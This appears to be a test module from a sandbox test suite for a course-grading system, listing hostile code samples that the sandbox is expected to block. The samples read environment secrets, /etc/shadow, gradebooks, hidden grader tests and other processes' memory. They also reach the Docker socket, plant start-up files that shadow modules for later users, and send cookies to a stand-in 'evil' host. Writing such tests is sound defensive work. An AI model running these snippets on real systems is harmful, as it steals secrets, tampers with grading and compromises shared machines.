"""Code that looks for what it must not read, writes where it must not write, and calls out."""

from __future__ import annotations

from tests.attacks.hostile import ATTACKS, right, wrong

__all__ = ["ATTACKS"]

wrong(
    "reads-the-environment",
    "secrets in the environment of any process",
    """
print(dict(os.environ), subprocess.run(["/usr/bin/env"], capture_output=True, text=True).stdout)
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline", "maps", "mountinfo", "cgroup"):
        try: print(pid, open(f"/proc/{pid}/{name}", "rb").read()[:20000])
        except OSError: pass
""",
    walls=True,
)
wrong(
    "reads-the-course",
    "source, gradebook, submissions and secrets in the course's folder",
    """
for above in ["{root}", "{root}/..", "{root}/source", "{root}/submitted/alan/01_setup", "/proc/1/root{root}",
              "/proc/self/root{root}", f"/proc/{os.getppid()}/cwd", "../../../../../../..{root}", "/proc/1/cwd"]:
    for folder, _, files in os.walk(above):
        for file in files:
            try: print(file, open(os.path.join(folder, file), "rb").read()[:100000])
            except OSError as error: print(error)
""",
    walls=True,
)
wrong(
    "reads-through-links",
    "the same through symbolic and hard links, and by asking other programs",
    """
for number, target in enumerate(["{root}", "{root}/gradebook.db", "{root}/secret.txt", "/proc/1/root", "/etc/shadow"]):
    for link in (os.symlink, os.link):
        try: link(target, f"link-{number}-{link.__name__}"); print(open(f"link-{number}-{link.__name__}", "rb").read())
        except OSError as error: print(error)
print(subprocess.run("cat {root}/secret.txt /etc/shadow; grep -r the-grader {root}; ls -la /root /home; id",
                     shell=True, capture_output=True))
""",
    walls=True,
)
wrong(
    "reads-memory-and-descriptors",
    "the memory of other processes, and descriptors that were left open",
    """
for pid in ["self", *(p for p in os.listdir("/proc") if p.isdigit())]:
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"): print(pid, fd, os.readlink(f"/proc/{pid}/fd/{fd}"))
    except OSError: pass
    if pid not in ("self", str(os.getpid())):
        try: open(f"/proc/{pid}/mem", "rb").read(10)
        except OSError as error: print(error)
for fd in range(256):
    if fd in (1, 2, 3): continue
    try: print(fd, os.pread(fd, 100000, 0))
    except OSError: pass
""",
    walls=True,
)
wrong(
    "reads-hidden-tests-in-memory",
    "the hidden tests in the room's own memory",
    """
needle = "the-grader".encode() + b"-only"
for line in open("/proc/self/maps"):
    if "rw-p" not in line or "[v" in line: continue
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    with open("/proc/self/mem", "rb") as memory:
        try: memory.seek(start); data = memory.read(end - start)
        except (OSError, ValueError, OverflowError): continue
    at = data.find(b'secret = "' + needle)
    if at >= 0: print(data[at - 50 : at + 50])
""",
)
wrong(
    "calls-out",
    "the network: this machine's, the local network's, names, unix sockets",
    """
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("10.0.0.1", 80)),
                        (socket.AF_INET6, ("::1", {port})), (socket.AF_UNIX, "\\0/tmp/.X11-unix/X0"),
                        (socket.AF_UNIX, "/var/run/docker.sock")]:
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.3)
    try: s.connect(address); s.sendall(b"REACHED"); print("REACHED", address)
    except OSError as error: print(error)
try: print("REACHED", socket.getaddrinfo("example.org", 80))
except OSError as error: print(error)
""",
    walls=True,
)
wrong(
    "writes-where-the-next-one-reads",
    "modules, start-up files and profiles for whoever comes next",
    """
import numpy, msgpack, tito.room.server, site
shadow = "raise SystemExit('SHADOWED')"
places = [os.path.dirname(m.__file__) for m in (numpy, msgpack, tito.room.server, os)]
places += [*sys.path, "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.getcwd(), "{root}", "{root}/source"]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "evil.pth", "__init__.py", "conftest.py",
                 "ipython_config.py", "startup/00.py", "nbgrader_config.py", "tinytorch_lib/__init__.py", "left-behind"):
        try:
            path = os.path.join(place, name); os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(shadow)
        except OSError: pass
""",
    walls=True,
)
right(
    "finds-what-others-left",
    "files, processes and memory of the room before this one",
    """
found = [os.path.join(place, name) for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"))
         if os.path.isdir(place) for name in os.listdir(place) if "left-behind" in name or name.endswith(".pth")]
assert not found, found
assert "SHADOWED" not in open(np.__file__).read()
assert len([p for p in os.listdir("/proc") if p.isdigit()]) < 5 or os.getpid() > 10
""",
    walls=True,
)
wrong(
    "markup-in-outputs",
    "scripts and terminal codes in everything that is shown",
    """
script = "<script>fetch('http://evil/'+document.cookie)</script><img src=x onerror=alert(1)>"
print(script, file=sys.stderr); print(script); display(script)
class Rich:
    _repr_html_ = _repr_javascript_ = _repr_markdown_ = lambda self: script
    __repr__ = lambda self: script
display(Rich())
Bad = type(script, (ValueError,), {})
def double(x): raise Bad(script + "</pre></div>\\x1b]0;x\\x07")
Rich()
""",
    holes={"double": "pass"},
)
